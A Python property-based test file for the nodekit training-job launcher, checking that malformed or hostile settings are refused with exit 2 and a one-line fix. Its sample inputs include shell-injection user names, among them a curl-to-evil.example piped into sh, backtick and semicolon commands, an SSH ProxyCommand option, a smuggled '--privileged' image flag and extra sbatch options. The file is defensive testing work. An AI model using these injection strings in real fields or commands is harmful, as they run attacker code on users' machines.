"""Known-bad input, drawn by hypothesis: each kind, alone in an otherwise good project, must be refused with exit 2
and one line naming the setting with its fix, and no file changed (no compose file, no job secret), so nothing was
shipped or started: never accepted (exit 0), replaced silently, or ended in a traceback. The general properties
beside this file (test_bad_input_property.py) accept any exit 0 or 2, so they cannot tell these apart. Each test
prints how many inputs it tried."""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nodekit.cli.app import app
from tests.bad_input import BOUNDED, ENV_TEXT, MADE, RUNNER, Setup, assert_refused, report_count

pytestmark = pytest.mark.usefixtures("bad_input_projects")

BASE: dict[str, Any] = {"name": "hostile", "script": "train.py", "nnodes": 2, "nproc_per_node": 1}
NODE_ARGV = st.sampled_from(
    [
        ["compose", "--node-rank", "0", "--main", "127.0.0.1", "--image", "x:y"],
        ["up", "--dry-run", "--node-rank", "1", "--main", "127.0.0.1", "--image", "x:y"],
    ]
)
RUN_ARGV = st.just(["run", "--dry-run"])
BAD_NPROC = st.one_of(st.integers(-3, 0), st.integers(1025, 10**9))
NOT_IP = st.text(max_size=16).filter(lambda t: not _is_ip(t))
BAD_ENV_KEY = st.one_of(
    st.sampled_from(["", "A B", "NODE_RANK=0 X", "1X", "A-B", "A=B", "MASTER_PORT"]),
    st.builds(lambda r, t: f"{r}={t}", st.sampled_from(["NODE_RANK", "RANK", "MASTER_ADDR", "NODEKIT_X"]), ENV_TEXT),
    st.text(max_size=8).filter(lambda k: not k.isidentifier() or not k.isascii()),
)
SEGMENT = st.text(alphabet="abcxyz09_-", min_size=1, max_size=6)
BIG_TIMEOUT = st.one_of(st.integers(604801, 10**18), st.sampled_from([1e14, 1e300, float("inf")]))
NOT_UTF8 = st.binary(min_size=1, max_size=4).filter(lambda b: not _utf8(b))
BAD_IMAGE = st.sampled_from(["no such/IMAGE::x", "r/x:1 --privileged", "x::y", "a b", "x:y:z", "-x", "x@sha256:z"])
BAD_USER = st.sampled_from(
    ["$(curl${IFS}-s${IFS}evil.example|sh)", "-oProxyCommand=x", "a;b", "`id`", "u'x", "a$b", "\u00e9t\u00e9", "a|b"]
)
SPELLINGS = st.sampled_from(
    [str, lambda ip: str(int(ip)), lambda ip: hex(int(ip)), lambda ip: f"[::ffff:{ip}]", lambda ip: f"{ip}."]
)


def _is_ip(text: str) -> bool:
    import ipaddress

    try:
        ipaddress.ip_address(text)
    except ValueError:
        return False
    return True


def _utf8(raw: bytes) -> bool:
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


def _special(name: str, what: str) -> Setup:
    """``name`` in the project as something other than a regular file: a directory, a FIFO nobody writes to, a
    link to nothing."""

    def setup(project: Path) -> None:
        path = project / name
        path.unlink(missing_ok=True)
        if what in ("dir", "directory"):
            path.mkdir()
        elif what == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to(project / "nowhere")

    return setup


def _file(name: str, text: str) -> Setup:
    return lambda project: (project / name).write_text(text)


def _outside(via: str) -> Setup:
    """A project whose script is a file beside the project directory, reached through ``via``."""

    def setup(project: Path) -> None:
        outside = project.parent / f"{project.name}-outside.py"
        outside.write_text("print('not in the image')\n")
        MADE.append(outside)
        (project / "sub").mkdir()
        text = (project / "nodekit.toml").read_text().replace('"train.py"', f'"{via}/{outside.name}"')
        (project / "nodekit.toml").write_text(text)

    return setup


def _node(key: str, **doc: Any) -> st.SearchStrategy[Any]:
    """A node command (compose, or up --dry-run) on BASE with ``doc`` merged in, to be refused naming ``key``."""
    return st.tuples(NODE_ARGV, st.just({**BASE, **doc}), st.just(key), st.none())


def _same_host(ip: Any, a: Any, b: Any, port: bool) -> dict[str, Any]:
    first, second = f"ssh://u@{a(ip)}", f"ssh://v@{b(ip)}{':22' if port else ''}"
    return {**BASE, "hosts": [first, second]}


HOSTILE: dict[str, st.SearchStrategy[Any]] = {
    # Each kind of known-bad input, by name.
    "nproc_per_node": BAD_NPROC.flatmap(lambda n: _node("nproc_per_node", nproc_per_node=n)),
    "nodes_nproc": st.tuples(st.integers(0, 1), BAD_NPROC).flatmap(
        lambda rn: _node(f"[nodes.{rn[0]}] nproc_per_node", nodes={str(rn[0]): {"nproc_per_node": rn[1]}})
    ),
    "hostfile_slots": st.tuples(
        st.just(["run", "--dry-run", "--hostfile", "hostfile"]),
        st.just(BASE),
        st.just("hostfile line 1"),
        st.sampled_from(["0", "-1", "x", "1025", ""]).map(
            lambda n: _file("hostfile", f"10.0.0.1 slots={n}\n10.0.0.2\n")
        ),
    ),
    # Main on another machine: a loopback main refused any [nodes.R] addr already, garbage or not.
    "nodes_addr": st.tuples(st.integers(0, 1), NOT_IP, st.sampled_from(["compose", "up"])).map(
        lambda rak: (
            [
                rak[2],
                *(["--dry-run"] if rak[2] == "up" else []),
                "--node-rank",
                "1",
                "--main",
                "10.0.0.5",
                "--image",
                "x:y",
            ],
            {**BASE, "nodes": {str(rak[0]): {"addr": rak[1]}}},
            f"[nodes.{rak[0]}] addr",
            None,
        )
    ),
    "env_key": BAD_ENV_KEY.flatmap(lambda k: _node("env", env={k: "1"})),
    "checked_mount_comma": st.tuples(SEGMENT, SEGMENT, st.sampled_from(["sizes", "hashes"])).flatmap(
        lambda abc: _node(
            "[[mounts]] #1", mounts=[{"host": "/tmp", "container": f"/{abc[0]},{abc[1]}", "check": abc[2]}]
        )
    ),
    "timeouts": st.tuples(st.sampled_from(["rdzv_timeout", "peer_timeout"]), BIG_TIMEOUT).flatmap(
        lambda kv: _node(kv[0], **{kv[0]: kv[1]})
    ),
    "compose_dir": st.sampled_from(["train.py/x", "nodekit.toml", "train.py"]).flatmap(
        lambda c: _node("compose_dir", compose_dir=c)
    ),
    "state_dir_is_a_file": st.tuples(NODE_ARGV, st.just(BASE), st.just(".nodekit"), st.just(_file(".nodekit", "x\n"))),
    "toml_not_utf8": st.tuples(
        NODE_ARGV,
        NOT_UTF8.map(lambda raw: b'script = "train.py"\nname = "' + raw + b'"\n'),
        st.just("not UTF-8"),
        st.none(),
    ),
    "nnodes": st.one_of(st.integers(10_001, 10**6), st.just(10**7)).flatmap(lambda n: _node("nnodes", nnodes=n)),
    "hosts_spaces": st.tuples(
        RUN_ARGV,
        st.tuples(SEGMENT, SEGMENT, st.sampled_from([" ", "\t", "\u00a0 "])).map(
            lambda abw: {**BASE, "hosts": [f"ssh://{abw[0]}{abw[2]}@{abw[1]}", "ssh://x@10.0.0.9"]}
        ),
        st.just("host"),
        st.none(),
    ),
    "hosts_twice": st.tuples(
        RUN_ARGV,
        st.builds(_same_host, st.ip_addresses(v=4), SPELLINGS, SPELLINGS, st.booleans()),
        st.just("same machine"),
        st.none(),
    ),
    # Holes of the same kind found beside them (settings.py, spec.py, fleet/hosts.py).
    "pass_env_reserved": st.sampled_from(["NODE_RANK", "WORLD_SIZE", "NODEKIT_JOB_SECRET"]).flatmap(
        lambda n: _node("pass_env", pass_env=[n])
    ),
    "pass_env_and_env": _node("pass_env", env={"HF_TOKEN": "x"}, pass_env=["HF_TOKEN"]),
    # A script outside the project that exists on this machine, but is not in the image.
    "script_outside": st.tuples(
        NODE_ARGV, st.just(BASE), st.just("script"), st.sampled_from(["..", "sub/../.."]).map(_outside)
    ),
    "module": st.sampled_from(["x y", "pkg.", "1pkg", ""]).map(
        lambda m: (
            ["compose", "--node-rank", "0", "--main", "127.0.0.1", "--image", "x:y"],
            {k: v for k, v in BASE.items() if k != "script"} | {"module": m},
            "module",
            None,
        )
    ),
    "main": st.sampled_from(["a b", "h!st", ""]).map(
        lambda m: (["run", "--dry-run"], {**BASE, "hosts": ["ssh://a@h1", "ssh://a@h2"], "main": m}, "main", None)
    ),
    "nul_in_args": st.sampled_from(["a\x00b", "x\x00"]).flatmap(lambda a: _node("args", args=["--ok", a])),
    "nul_in_env_value": _node("env", env={"A": "x\x00y"}),
    "iface": st.sampled_from(["a/b", "x" * 16, "eth 0", ""]).flatmap(
        lambda i: _node("[nodes.1] iface", nodes={"1": {"iface": i}})
    ),
    "mount_path_not_plain": st.sampled_from(["/tmp/../data", "/data/.", "//data", "/da\nta", "rel"]).flatmap(
        lambda p: _node("[[mounts]] #1", mounts=[{"host": "/tmp", "container": p}])
    ),
    "mount_over_the_system": st.sampled_from(["/opt", "/proc", "/", "/opt/venv", "/usr"]).flatmap(
        lambda p: _node("[[mounts]] #1", mounts=[{"host": "/tmp", "container": p}])
    ),
    "gpus": st.integers(1025, 10**6).flatmap(lambda g: _node("[nodes.1] gpus", nodes={"1": {"gpus": g}})),
    "name_too_long": _node("name", name="a" * 129),
    "empty_package": _node("packages", packages=["torch==2.13.0", ""]),
    "build_target": st.sampled_from(
        [("python_version", "3"), ("python_version", "abc"), ("wheel_platform", "x y")]
    ).flatmap(lambda kv: _node(kv[0], **{kv[0]: kv[1]})),
    # Issue 28: tracebacks, inputs that hung or read for ever, and inputs accepted that failed later.
    "toml_deep": st.integers(1_000, 6_000).map(
        lambda n: (
            ["compose", "--node-rank", "0", "--main", "127.0.0.1", "--image", "x:y"],
            b'script = "train.py"\nx = ' + b"[" * n + b"1" + b"]" * n + b"\n",
            "nests arrays or tables deeper",
            None,
        )
    ),
    "hostfile_not_utf8": st.tuples(
        st.just(["run", "--dry-run", "--hostfile", "hostfile"]),
        st.just(BASE),
        st.just("not UTF-8 (byte"),
        NOT_UTF8.map(
            lambda raw: lambda project: (project / "hostfile").write_bytes(b"10.0.0.1\n10.0.0." + raw + b"\n")
        ),
    ),
    "hostfile_not_a_file": st.sampled_from(["dir", "fifo", "/dev/zero"]).map(
        lambda what: (
            ["run", "--dry-run", "--hostfile", what if what.startswith("/") else "hostfile"],
            BASE,
            "hostfile",
            None if what.startswith("/") else _special("hostfile", what),
        )
    ),
    "hosts_url": st.sampled_from(["ssh://u@[::1", "ssh://@host", "ssh://u@[::1:22", "ssh://@10.0.0.1:22"]).map(
        lambda url: (["run", "--dry-run"], {**BASE, "hosts": [url, "ssh://x@h2"]}, "host 0", None)
    ),
    # Review 2026-12 N15: a user name that a shell runs, printed inside the Fix commands a user pastes.
    "hosts_user": BAD_USER.map(
        lambda u: (["run", "--dry-run"], {**BASE, "hosts": [f"ssh://{u}@10.0.0.1", "ssh://x@h2"]}, "host 0", None)
    ),
    "hostfile_user": BAD_USER.map(
        lambda u: (
            ["run", "--dry-run", "--hostfile", "hostfile"],
            BASE,
            "host 1",
            _file("hostfile", f"10.0.0.1 slots=1\n{u}@10.0.0.2 slots=1\n"),
        )
    ),
    "image_flag": st.tuples(NODE_ARGV, BAD_IMAGE).map(
        lambda ai: ([*ai[0][:-1], ai[1]], BASE, "is not an image reference", None)
    ),
    "k8s_image": BAD_IMAGE.map(lambda i: (["k8s", "--dry-run"], {**BASE, "k8s": {"image": i}}, "[k8s] image", None)),
    "base_image": BAD_IMAGE.flatmap(lambda i: _node("base_image", base_image=i)),
    "slurm_docker_host": st.sampled_from(["not a url", "http://x", "ssh://@h", "unix://rel", "tcp://"]).map(
        lambda u: (["slurm", "--dry-run"], {**BASE, "slurm": {"docker_host": u}}, "[slurm] docker_host", None)
    ),
    # Review 2026-12 N7: sbatch splits an #SBATCH line at whitespace and reads quotes and backslashes, so an option
    # name that is not one plain word passed the check on --nodes and then overrode it (or --output, or the tasks).
    "sbatch_args_not_one_word": st.sampled_from(
        [
            "--exclusive --nodes=1",
            "--exclusive --output=/tmp/nodekit-n7-elsewhere",
            "--exclusive --ntasks-per-node=4",
            "--exclusive\t--nodes=1",
            '--"nodes"=1',
            "--no\\des=1",
            "--comment#x=1",
            "--exclusive --nodes",
        ]
    ).map(lambda a: (["slurm", "--dry-run"], {**BASE, "slurm": {"sbatch_args": [a]}}, "sbatch_args", None)),
    "output_dir_project": st.sampled_from(["", ".", "..", "/", "./"]).flatmap(
        lambda o: _node("output_dir", output_dir=o)
    ),
    # Review 2026-12 N14: the job got nodekit's own state read-write at /outputs (the job secret, run records, the
    # compose files a user runs by hand). Line 5 or 6 of the file: BASE's four keys come first.
    "output_dir_state": st.sampled_from(
        [".nodekit", ".nodekit/out", "./.nodekit/runs", "compose", "compose/x"]
    ).flatmap(lambda o: _node("nodekit.toml:5: output_dir", output_dir=o)),
    "output_dir_holds_compose": st.sampled_from([("work", "work/compose"), ("out", "out/a/b"), ("c", "c")]).flatmap(
        lambda oc: _node("nodekit.toml:6: output_dir", compose_dir=oc[1], output_dir=oc[0])
    ),
}


@pytest.mark.parametrize("kind", ["directory", "fifo", "dangling link"])
def test_a_nodekit_toml_that_is_not_a_file_is_refused_where_it_is_found(kind: str) -> None:
    """Issue 28: ./nodekit.toml as a directory was skipped (defaults used, exit 0); a FIFO there would hang a read.
    Found without --config, it is refused in one line naming what it is."""
    project = Path(tempfile.mkdtemp(prefix="nodekit-prop-"))
    MADE.append(project)
    (project / "train.py").write_text("print('hi')\n")
    _special("nodekit.toml", kind)(project)
    cwd = os.getcwd()
    os.chdir(project)
    try:
        clean = {k: None for k in os.environ if k.startswith("NODEKIT_")}
        argv = ["compose", "--node-rank", "0", "--main", "127.0.0.1", "--image", "x:y", "--script", "train.py"]
        result = RUNNER.invoke(app, argv, env=clean)
    finally:
        os.chdir(cwd)
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert result.exit_code == 2 and len(lines) == 1, result.stdout + result.stderr
    assert "nodekit.toml" in lines[0] and "Fix:" in lines[0], lines
    assert not (project / "compose").exists()


def test_nodekit_load_of_a_directory_says_it_is_one() -> None:
    """Issue 28: `nodekit load /tmp` said "does not exist"."""
    result = RUNNER.invoke(app, ["load", tempfile.gettempdir()])
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert result.exit_code == 2 and len(lines) == 1 and "is a directory" in lines[0], result.stderr


@pytest.mark.parametrize("expect", ["", "sha256:", "af5634", "not-an-id-at-all", "AF5634FB6D0E"])
def test_nodekit_load_refuses_an_empty_or_malformed_expect(expect: str, tmp_path: Path) -> None:
    """Issue 44 (N4): `--expect ''` accepted any file (every id starts with ""); a short prefix matches too many."""
    tampered = tmp_path / "tampered.tar"
    tampered.write_bytes(b"not read: refused before")
    result = RUNNER.invoke(app, ["load", str(tampered), "--expect", expect])
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert result.exit_code == 2 and len(lines) == 1, result.stdout + result.stderr
    assert "is not an image id" in lines[0] and "Fix: pass at least 12 hex digits" in lines[0], lines


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_known_bad_input_is_one_line_exit_2(kind: str, record_property: Callable[[str, object], None]) -> None:
    seen: list[int] = []

    @settings(BOUNDED, max_examples=15)
    @given(case=HOSTILE[kind])
    def check(case: tuple[list[str], dict[str, Any] | bytes, str, Setup | None]) -> None:
        seen.append(1)
        argv, doc, key, setup = case
        assert_refused(list(argv), doc, key, setup)

    check()
    report_count(f"known_bad_{kind}", seen, record_property)
